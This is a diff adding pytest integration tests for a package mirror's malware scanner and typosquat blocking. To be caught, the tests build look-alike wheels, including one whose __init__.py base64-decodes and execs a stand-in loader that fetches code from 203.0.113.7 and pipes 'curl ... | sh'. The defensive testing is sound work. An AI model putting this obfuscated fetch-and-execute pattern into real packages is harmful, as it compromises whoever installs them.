@@ -1,0 +1,128 @@
+"""Threat findings through a mirror: the scanner's verdicts and typosquats, blocked by policy.
+
+The "malicious" packages here are harmless look-alikes written by the test: they carry the
+shape of real malware (a base64 blob decoded and executed, which downloads and executes code
+from a raw IP) but nothing is ever installed or run.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.builders import build_wheel, write_simple_tree
+from tests.conftest import Server
+from tests.integration.test_clients import installed, pip
+from tests.upstream import Upstream
+
+PAYLOAD = (
+    "import urllib.request as u, os\n"
+    "exec(u.urlopen('http://203.0.113.7/stage2').read())\n"
+    "os.system('curl -s http://203.0.113.7/x | sh')\n"
+)
+EVIL_INIT = (
+    f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD.encode()).decode()!r}))\n"
+)
+
+
+@pytest.fixture
+def threats_upstream(tmp_path: Path) -> Iterator[Upstream]:
+    dist = tmp_path / "tdist"
+    dist.mkdir()
+    files = [
+        build_wheel(
+            dist, "friendly-colors", "1.0", modules={"friendly_colors/__init__.py": EVIL_INIT}
+        ),
+        build_wheel(dist, "friendly-colors", "0.9"),  # an earlier, clean release
+        build_wheel(dist, "tidy-utils", "1.0"),
+        build_wheel(dist, "reqeusts", "2.31.0"),  # a swapped-letters look-alike of requests
+    ]
+    root = tmp_path / "threats"
+    write_simple_tree(root, files, with_metadata={f.name for f in files})
+    up = Upstream(root)
+    try:
+        yield up
+    finally:
+        up.close()
+
+
+def test_malicious_look_alike_is_blocked_with_the_rule_named(
+    server: Server, threats_upstream: Upstream, tmp_path: Path
+) -> None:
+    srv = server
+    srv.cli("index", "create", "up", "--mirror", threats_upstream.simple_url)
+    policy = tmp_path / "threats.toml"
+    policy.write_text('[[rules]]\nkind = "threats"\nblock = ["malicious"]\n')
+    srv.cli("policy", "set", "up", "--file", str(policy))
+    token = srv.token("up")
+    with srv.http(token) as c:
+        # the first download waits for the scanner; the verdict blocks it
+        r = c.get("/pypi/up/files/friendly-colors/friendly_colors-1.0-py3-none-any.whl")
+        assert r.status_code == 403, r.text
+        assert "rule 1 (threats): malicious: malware-scanner" in r.text
+        assert c.get("/pypi/up/files/tidy-utils/tidy_utils-1.0-py3-none-any.whl").status_code == 200
+        r = c.get("/pypi/up/files/reqeusts/reqeusts-2.31.0-py3-none-any.whl")
+        assert r.status_code == 403
+        assert "typosquat" in r.text
+        assert "requests" in r.text
+    # the resolver falls back to the clean release
+    pip(
+        "install",
+        "--index-url",
+        srv.index_url("up", token),
+        "--target",
+        str(tmp_path / "t"),
+        "friendly-colors",
+        "tidy-utils",
+    )
+    assert installed(tmp_path / "t") == {
+        "friendly_colors-0.9.dist-info",
+        "tidy_utils-1.0.dist-info",
+    }
+    explained = json.loads(
+        srv.cli("policy", "explain", "up", "friendly-colors", "1.0", "--json").stdout
+    )
+    assert explained[0]["allowed"] is False
+    assert "malware-scanner" in explained[0]["blocked_by"][0]
+    flagged = json.loads(srv.cli("threats", "list", "--json").stdout)
+    evil = [f for f in flagged if f["file"] == "friendly_colors-1.0-py3-none-any.whl"]
+    assert evil
+    assert evil[0]["verdict"] == "malicious"
+    assert {f["path"] for f in evil[0]["findings"]} & {
+        "friendly_colors/__init__.py",
+        "friendly_colors-1.0-py3-none-any.whl!/friendly_colors/__init__.py",
+    } or any("__init__.py" in f["path"] for f in evil[0]["findings"])
+    shown = srv.cli("threats", "report", evil[0]["sha256"]).stdout
+    assert "malicious" in shown
+
+
+def test_files_are_scanned_in_the_background_without_a_threats_rule(
+    server: Server, threats_upstream: Upstream
+) -> None:
+    srv = server
+    srv.cli("index", "create", "raw", "--mirror", threats_upstream.simple_url)
+    token = srv.token("raw")
+    with srv.http(token) as c:
+        r = c.get("/pypi/raw/files/friendly-colors/friendly_colors-1.0-py3-none-any.whl")
+        assert r.status_code == 200  # no policy asks to wait: served, then scanned
+    deadline = time.monotonic() + 60
+    flagged: list[dict[str, object]] = []
+    while time.monotonic() < deadline:
+        flagged = json.loads(srv.cli("threats", "list", "--json").stdout)
+        if flagged:
+            break
+        time.sleep(0.5)
+    assert [f["verdict"] for f in flagged] == ["malicious"]
+    with srv.http(srv.admin_token) as c:
+        sha = str(flagged[0]["sha256"])
+        got = c.get(f"/api/v1/scans/{sha}")
+        assert got.status_code == 200
+        assert got.json()["verdict"] == "malicious"
+        assert c.get("/api/v1/scans/" + "0" * 64).status_code == 404
+    events = json.loads(srv.cli("audit", "list", "--json", "--action", "threat.finding").stdout)
+    assert [e["outcome"] for e in events] == ["malicious"]
